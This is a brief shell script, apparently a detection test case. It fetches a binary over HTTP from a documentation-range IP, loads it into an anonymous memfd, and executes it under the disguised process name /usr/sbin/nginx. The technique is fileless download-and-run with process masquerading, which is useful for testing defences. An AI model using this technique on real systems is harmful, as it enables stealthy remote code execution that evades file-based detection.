#!/bin/sh
. /opt/case/case.sh

python3 -c '
import os, urllib.request
fd = os.memfd_create("", os.MFD_CLOEXEC)
os.write(fd, urllib.request.urlopen("http://203.0.113.10/programs/marker").read())
os.execve(fd, ["/usr/sbin/nginx"], {})'
wait_for /tmp/reached
took_place
